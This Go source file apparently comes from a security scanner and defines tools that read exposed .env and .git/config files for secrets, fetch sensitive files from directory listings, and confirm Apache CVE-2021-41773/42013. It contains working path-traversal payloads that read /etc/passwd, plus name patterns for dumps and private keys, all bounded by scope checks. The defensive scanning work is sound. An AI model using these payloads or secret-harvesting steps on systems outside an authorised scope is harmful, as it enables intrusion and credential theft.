package followup

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"path"
	"slices"
	"strconv"
	"strings"
	"time"
	"unicode/utf8"

	"secscan/shared/checks"
	"secscan/shared/lazyre"
	"secscan/shared/scanners/code"
	"secscan/shared/scanners/internal/httpprobe"
	"secscan/shared/scans"
	"secscan/shared/tools"
)

// FileSecrets is the file_secrets tool.
type FileSecrets struct{ webTool }

// NewFileSecrets returns the file_secrets tool.
func NewFileSecrets(opts ...httpprobe.Option) tools.Tool {
	return &FileSecrets{webTool{meta{
		name: "file_secrets",
		description: "Reads an exposed configuration file (an .env file, or .git/config of an exposed repository) of at " +
			"most 64 KiB and runs the secret detectors over it (gitleaks' rules plus database connection URLs), reporting " +
			"each credential type as its own finding, redacted. Use it on an exposed .env, config or .git finding.",
		schema: urlSchema, cost: 3, timeout: 12 * time.Second, emits: []*checks.Check{checks.Secret},
	}, httpprobe.NewOptions(opts)}}
}

const configBody = 64 << 10

// Run implements tools.Tool.
func (t *FileSecrets) Run(ctx context.Context, env tools.Env, raw json.RawMessage) (tools.Result, error) {
	u, access, err := urlInput(ctx, env, t, raw)
	if err != nil {
		return tools.Result{}, err
	}
	toGitConfig(u)
	ctx, client, done, err := httpprobe.Session(ctx, env, t.opts, t.timeout)
	if err != nil {
		return tools.Result{}, err
	}
	defer done()
	client.Admitted(access)
	resp, err := client.Do(ctx, httpprobe.Request{URL: u, MaxBody: configBody})
	if err != nil {
		return tools.Result{}, fmt.Errorf("file_secrets: %s", httpprobe.Describe(err))
	}
	if !servesText(resp) {
		return tools.Result{Outcome: resp.Summary() + ": not a configuration file, nothing scanned"}, nil
	}
	findings, err := code.ScanConfigFile(ctx, u, string(resp.Body), resp)
	if err != nil {
		return tools.Result{}, fmt.Errorf("file_secrets: %w", err)
	}
	// The credential types of one file are one code.secret finding there.
	return tools.Result{Outcome: credentialTypes(resp.Summary(), findings), Findings: checks.Merge(findings)}, nil
}

// servesText reports whether resp serves a text file: a 200 answer that
// is no HTML page and is valid UTF-8.
func servesText(resp *httpprobe.Response) bool {
	return resp.Status == http.StatusOK && !strings.Contains(resp.ContentType(), "html") && utf8.Valid(resp.Body)
}

// toGitConfig points u, when it is in an exposed repository, at the
// repository's config: it leaks credentials (remote URLs with tokens),
// HEAD does not.
func toGitConfig(u *url.URL) {
	if i := strings.Index(u.Path, "/.git/"); i >= 0 || strings.HasSuffix(u.Path, "/.git") {
		if i < 0 {
			i = len(u.Path) - len("/.git")
		}
		u.Path, u.RawPath = u.Path[:i]+"/.git/config", ""
	}
}

// credentialTypes is file_secrets' outcome: the answer and the credential
// types found, by title.
func credentialTypes(answer string, findings []scans.Finding) string {
	outcome := fmt.Sprintf("%s: %d credential types", answer, len(findings))
	if len(findings) == 0 {
		return outcome
	}
	kinds := make([]string, len(findings))
	for i, f := range findings {
		kinds[i] = f.Title
	}
	return outcome + " (" + strings.Join(kinds, "; ") + ")"
}

// ListingFiles is the listing_files tool.
type ListingFiles struct{ webTool }

// NewListingFiles returns the listing_files tool.
func NewListingFiles(opts ...httpprobe.Option) tools.Tool {
	return &ListingFiles{webTool{meta{
		name: "listing_files",
		description: "Reads a directory listing page, classifies its entries by name (database dumps, archives, backups, " +
			"private keys) and asks for at most the first 4 KiB of each classified file (10 at most) to report those " +
			"actually served, with size and type as evidence. Use it on a directory listing finding.",
		schema: urlSchema, cost: 3, timeout: 15 * time.Second, emits: []*checks.Check{checks.ListedSensitiveFile},
	}, httpprobe.NewOptions(opts)}}
}

const (
	maxListed   = 10
	prefixBytes = 4 << 10
)

// fileClass is what a listed file is, by name.
type fileClass struct {
	kind     string // "database dump", ...
	severity scans.Severity
	match    func(name string) bool
}

func suffixes(ss ...string) func(string) bool {
	return func(n string) bool {
		for _, s := range ss {
			if strings.HasSuffix(n, s) {
				return true
			}
		}
		return false
	}
}

var fileClasses = []fileClass{
	{"database dump", scans.Critical, suffixes(".sql", ".sql.gz", ".sql.bz2", ".sql.zip", ".dump", ".sqlite", ".sqlite3", ".db", ".mdb", ".bson")},
	{"private key", scans.Critical, func(n string) bool {
		return suffixes(".pem", ".key", ".p12", ".pfx", ".ppk", ".jks")(n) || strings.HasPrefix(n, "id_rsa") || strings.HasPrefix(n, "id_ed25519")
	}},
	{"archive", scans.High, suffixes(".zip", ".tar", ".tar.gz", ".tgz", ".tar.bz2", ".7z", ".rar", ".gz")},
	{"backup file", scans.High, suffixes(".bak", ".backup", ".old", ".orig", ".save", ".swp", "~")},
}

var hrefPattern = lazyre.New(`(?i)href\s*=\s*["']([^"'#?]+)["']`)

// Run implements tools.Tool.
func (t *ListingFiles) Run(ctx context.Context, env tools.Env, raw json.RawMessage) (tools.Result, error) {
	u, access, err := urlInput(ctx, env, t, raw)
	if err != nil {
		return tools.Result{}, err
	}
	if !strings.HasSuffix(u.Path, "/") {
		u.Path, u.RawPath = path.Dir(u.Path)+"/", ""
	}
	ctx, client, done, err := httpprobe.Session(ctx, env, t.opts, t.timeout)
	if err != nil {
		return tools.Result{}, err
	}
	defer done()
	client.Admitted(access)
	page, err := client.Do(ctx, httpprobe.Request{URL: u, MaxBody: 256 << 10})
	if err != nil {
		return tools.Result{}, fmt.Errorf("listing_files: %s", httpprobe.Describe(err))
	}
	if page.Status != http.StatusOK {
		return tools.Result{Outcome: page.Summary() + ": no listing"}, nil
	}
	entries, listed := listedFiles(page.Body, u)
	findings := servedFiles(ctx, client, u, entries)
	return tools.Result{
		Outcome:  fmt.Sprintf("%s lists %d files; %d look sensitive by name; %d served", httpprobe.Clean(u.String(), 300), listed, len(entries), len(findings)),
		Findings: checks.Merge(findings),
	}, nil
}

// listedEntry is a file of a listing whose name looks sensitive.
type listedEntry struct {
	u     *url.URL
	name  string
	class fileClass
}

// listedFiles reads the listing of directory u: the files of the directory
// itself whose names look sensitive (at most maxListed), and how many
// files it lists.
func listedFiles(body []byte, u *url.URL) (entries []listedEntry, listed int) {
	seen := map[string]bool{}
	for _, m := range hrefPattern.FindAllSubmatch(body, 1000) {
		ref, err := u.Parse(string(m[1]))
		if err != nil || !httpprobe.SameOrigin(ref, u) || path.Dir(ref.Path)+"/" != u.Path || seen[ref.Path] {
			continue // only the listed directory's own files
		}
		seen[ref.Path] = true
		listed++
		name := strings.ToLower(path.Base(ref.Path))
		i := slices.IndexFunc(fileClasses, func(c fileClass) bool { return c.match(name) })
		if i >= 0 && len(entries) < maxListed {
			entries = append(entries, listedEntry{ref, path.Base(ref.Path), fileClasses[i]})
		}
	}
	return entries, listed
}

// servedFiles asks for the listed entries of directory dir in turn, while
// the call has time, and reports those served.
func servedFiles(ctx context.Context, client *httpprobe.Client, dir *url.URL, entries []listedEntry) []scans.Finding {
	var findings []scans.Finding
	for _, e := range entries {
		if ctx.Err() != nil {
			break
		}
		if f, ok := servedFile(ctx, client, dir, e); ok {
			findings = append(findings, f)
		}
	}
	return findings
}

// servedFile reads the first bytes of a listed file; a finding when the
// server hands it out (not an HTML page).
func servedFile(ctx context.Context, client *httpprobe.Client, dir *url.URL, e listedEntry) (f scans.Finding, ok bool) {
	resp, err := client.Do(ctx, httpprobe.Request{URL: e.u, MaxBody: prefixBytes,
		Header: http.Header{"Range": {"bytes=0-" + strconv.Itoa(prefixBytes-1)}}})
	if err != nil || (resp.Status != http.StatusOK && resp.Status != http.StatusPartialContent) || strings.Contains(resp.ContentType(), "html") {
		return f, false
	}
	size := sizeOf(resp)
	evidence := fmt.Sprintf("Listed in %s and served: GET %s → %d, %s, content: %s (first %d bytes read, nothing more downloaded)",
		httpprobe.Clean(dir.String(), 300), httpprobe.Clean(e.u.String(), 300), resp.Status, size, sniff(resp.Body), len(resp.Body))
	host, port := httpprobe.HostPort(e.u)
	f = checks.ListedSensitiveFile.Finding(host, &port, httpprobe.Clean(evidence, 1500))
	f.Proof = resp.Proof("")
	f.Title = fmt.Sprintf("%s downloadable from a directory listing: %s", capitalize(e.class.kind), httpprobe.Clean(e.u.EscapedPath(), 200))
	f.Severity = e.class.severity
	f.Description = fmt.Sprintf("The directory listing shows a %s and the server hands it to anyone who asks. Backups and dumps "+
		"usually hold the data the application protects (customer records, password hashes, secrets).", e.class.kind)
	f.Confidence = scans.Certain
	return f, true
}

// sizeOf is the file's size from Content-Range or Content-Length.
func sizeOf(r *httpprobe.Response) string {
	if cr := r.Header.Get("Content-Range"); cr != "" {
		if _, total, ok := strings.Cut(cr, "/"); ok && total != "*" {
			return total + " bytes"
		}
	}
	if cl := r.Header.Get("Content-Length"); cl != "" && r.Status == http.StatusOK {
		return cl + " bytes"
	}
	return "size unknown"
}

// magics name a file's type by its first bytes.
var magics = []struct{ prefix, kind string }{
	{"\x1f\x8b", "gzip-compressed data"},
	{"PK\x03\x04", "ZIP archive"},
	{"SQLite format 3", "SQLite database"},
}

// sniff names a file's type from its first bytes.
func sniff(b []byte) string {
	s := string(b)
	for _, m := range magics {
		if strings.HasPrefix(s, m.prefix) {
			return m.kind
		}
	}
	switch {
	case strings.Contains(s, "-----BEGIN") && strings.Contains(s, "PRIVATE KEY"):
		return "PEM private key (not shown)"
	case looksLikeSQLDump(s):
		return "SQL dump text (\"" + httpprobe.Clean(firstLine(s), 80) + "\")"
	}
	return httpprobe.Clean(http.DetectContentType(b), 60)
}

// looksLikeSQLDump reports whether s is the start of a SQL dump: a dump
// tool's header or DDL/DML statements.
func looksLikeSQLDump(s string) bool {
	upper := strings.ToUpper(s)
	return strings.Contains(s, "-- MySQL dump") || strings.Contains(s, "PostgreSQL database dump") ||
		strings.Contains(upper, "CREATE TABLE") || strings.Contains(upper, "INSERT INTO")
}

func firstLine(s string) string {
	line, _, _ := strings.Cut(s, "\n")
	return line
}

func capitalize(s string) string { return strings.ToUpper(s[:1]) + s[1:] }

// ConfirmCVE is the confirm_cve tool.
type ConfirmCVE struct{ webTool }

// NewConfirmCVE returns the confirm_cve tool.
func NewConfirmCVE(opts ...httpprobe.Option) tools.Tool {
	return &ConfirmCVE{webTool{meta{
		name: "confirm_cve",
		description: "Confirms a critical vulnerability matched by version with one safe, read-only request and reports it " +
			"as certain with the request and the answer as evidence: CVE-2021-41773 and CVE-2021-42013 (Apache HTTP " +
			"Server 2.4.49/2.4.50 path traversal: asks for /etc/passwd outside the document root; writes nothing, runs nothing).",
		schema: `{
  "type": "object",
  "additionalProperties": false,
  "required": ["host", "port", "cve"],
  "properties": {
    "host": {"type": "string"},
    "port": {"type": "integer", "minimum": 1, "maximum": 65535},
    "cve": {"type": "string", "enum": ["CVE-2021-41773", "CVE-2021-42013"]}
  }
}`, cost: 2, timeout: 10 * time.Second, emits: []*checks.Check{checks.ConfirmedCVE},
	}, httpprobe.NewOptions(opts)}}
}

// ConfirmableCVEs are the CVEs confirm_cve can confirm.
func ConfirmableCVEs() []string { return []string{"CVE-2021-41773", "CVE-2021-42013"} }

// traversal is one read-only request of the Apache 2.4.49/2.4.50 path
// traversal: encoded dot segments a vulnerable server maps outside the
// document root. The 2.4.50 variant double-encodes the dot (%%32%65), which
// is not valid percent-encoding, so the path is sent verbatim.
type traversal struct {
	cve, path string
}

// traversals per CVE asked for: 2.4.49 falls to both payloads, 2.4.50 only
// to the double-encoded one, so either question tries both.
var traversals = map[string][]traversal{
	"CVE-2021-41773": {
		{"CVE-2021-41773", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
		{"CVE-2021-41773", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
		{"CVE-2021-42013", "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd"},
	},
}

func init() { traversals["CVE-2021-42013"] = traversals["CVE-2021-41773"] }

var passwdRoot = lazyre.New(`(?m)^root:[^:\n]*:0:0:`)

// Run implements tools.Tool.
func (t *ConfirmCVE) Run(ctx context.Context, env tools.Env, raw json.RawMessage) (tools.Result, error) {
	in, host, paths, err := confirmInput(env, raw)
	if err != nil {
		return tools.Result{}, err
	}
	// An exploit-confirming request: a third party's name is refused.
	access, err := env.Admit(ctx, host, tools.Probe)
	if err != nil {
		return tools.Result{}, err
	}
	ctx, client, done, err := httpprobe.Session(ctx, env, t.opts, t.timeout)
	if err != nil {
		return tools.Result{}, err
	}
	defer done()
	client.Admitted(access)
	c := &confirmer{env: env, client: client, host: host, port: in.Port}
	for _, scheme := range []string{"https", "http"} {
		res, confirmed, err := c.try(ctx, scheme, paths)
		if confirmed || err != nil {
			return res, err
		}
	}
	return tools.Result{Outcome: in.CVE + " not confirmed (the version may be patched or the paths protected): " + strings.Join(c.tried, "; ")}, nil
}

// confirmer sends one host:port the traversal requests of a CVE.
type confirmer struct {
	env    tools.Env
	client *httpprobe.Client
	host   string
	port   int
	// tried lists the requests sent and their answers, for the outcome.
	tried []string
}

// try sends the traversal requests over scheme in turn, until one
// confirms the CVE (its result) or the scheme does not answer.
func (c *confirmer) try(ctx context.Context, scheme string, paths []traversal) (_ tools.Result, confirmed bool, _ error) {
	for _, tr := range paths {
		u := httpprobe.SiteURL(scheme, c.host, c.port)
		if err := httpprobe.CheckURL(c.env, u); err != nil {
			return tools.Result{}, false, tools.Refuse("%v", err)
		}
		// Opaque "//host/path" is sent as the request target verbatim.
		u.Path, u.Opaque = "", "//"+u.Host+tr.path
		resp, err := c.client.Do(ctx, httpprobe.Request{URL: u, MaxBody: 8 << 10})
		shown := scheme + "://" + u.Host + tr.path
		if err != nil {
			c.tried = append(c.tried, "GET "+shown+": "+httpprobe.Describe(err))
			return tools.Result{}, false, nil // this scheme does not answer
		}
		c.tried = append(c.tried, fmt.Sprintf("GET %s → %d", shown, resp.Status))
		if resp.Status == http.StatusOK && passwdRoot.Match(resp.Body) {
			return tools.Result{
				Outcome:  fmt.Sprintf("%s confirmed on %s:%d: the server returned /etc/passwd from outside the document root", tr.cve, c.host, c.port),
				Findings: []scans.Finding{confirmedTraversal(tr.cve, c.host, c.port, shown, resp)},
			}, true, nil
		}
	}
	return tools.Result{}, false, nil
}

// confirmInput is confirm_cve's input, the host in scope, and the
// requests that can confirm its CVE.
func confirmInput(env tools.Env, raw json.RawMessage) (in cveInput, host string, paths []traversal, err error) {
	if err := tools.DecodeInput(raw, &in); err != nil {
		return in, "", nil, err
	}
	if host, err = env.ScopedHost(in.Host); err != nil {
		return in, "", nil, err
	}
	paths, ok := traversals[in.CVE]
	if !ok {
		return in, "", nil, tools.Refuse("no safe confirmation for %q", in.CVE)
	}
	if in.Port < 1 || in.Port > 65535 {
		return in, "", nil, tools.Refuse("port %d is out of range (1-65535)", in.Port)
	}
	return in, host, paths, nil
}

// cveInput is confirm_cve's input.
type cveInput struct {
	Host string `json:"host"`
	Port int    `json:"port"`
	CVE  string `json:"cve"`
}

func confirmedTraversal(cve, host string, port int, request string, resp *httpprobe.Response) scans.Finding {
	root := passwdRoot.Find(resp.Body)
	line, _, _ := strings.Cut(string(resp.Body[passwdIndex(resp.Body, root):]), "\n")
	cvss := 9.8
	if cve == "CVE-2021-41773" {
		cvss = 7.5
	}
	f := checks.ConfirmedCVE.Finding(host, &port, httpprobe.Clean(fmt.Sprintf("Request: GET %s (encoded dot segments, read-only). Response: %d %s, %d bytes, starting with the "+
		"system's password file: %q (the rest is not kept).", request, resp.Status, resp.ContentType(), len(resp.Body), line), 1500))
	cwe := "CWE-22"
	f.Title = fmt.Sprintf("Apache HTTP Server path traversal confirmed (%s)", cve)
	f.Description = "The server maps encoded dot segments outside the document root and returned /etc/passwd: any file the server " +
		"process can read is disclosed, and with mod_cgi enabled the same flaw executes commands. Confirmed with a read-only request."
	f.Remediation = "Upgrade Apache HTTP Server to 2.4.51 or later now, and make sure the filesystem root is protected with " +
		"'Require all denied'. Review the access logs for earlier requests with %2e segments."
	f.References = []string{"https://httpd.apache.org/security/vulnerabilities_24.html", "https://nvd.nist.gov/vuln/detail/" + cve}
	f.CWE, f.CVE, f.CVSS, f.Confidence = &cwe, &cve, &cvss, scans.Certain
	// The proof shows the password file's first line only, as the
	// evidence does: the rest is not kept.
	shown := *resp
	shown.Body = []byte(line)
	f.Proof = shown.Proof("")
	return f
}

func passwdIndex(body, match []byte) int {
	if i := strings.Index(string(body), string(match)); i >= 0 {
		return i
	}
	return 0
}

// urlInput decodes {"url"} and checks it against the scope and the
// third-party rule for tool (a file or a listing is no home page: a name
// aliased outside the scope is refused).
func urlInput(ctx context.Context, env tools.Env, tool tools.Tool, raw json.RawMessage) (*url.URL, tools.Access, error) {
	var in struct {
		URL string `json:"url"`
	}
	if err := tools.DecodeInput(raw, &in); err != nil {
		return nil, tools.Access{}, err
	}
	if in.URL == "" {
		return nil, tools.Access{}, tools.Refuse("url is required")
	}
	u, err := httpprobe.ParseTarget(env, in.URL)
	if err != nil {
		return nil, tools.Access{}, err
	}
	access, err := httpprobe.Admit(ctx, env, tool, u)
	return u, access, err
}
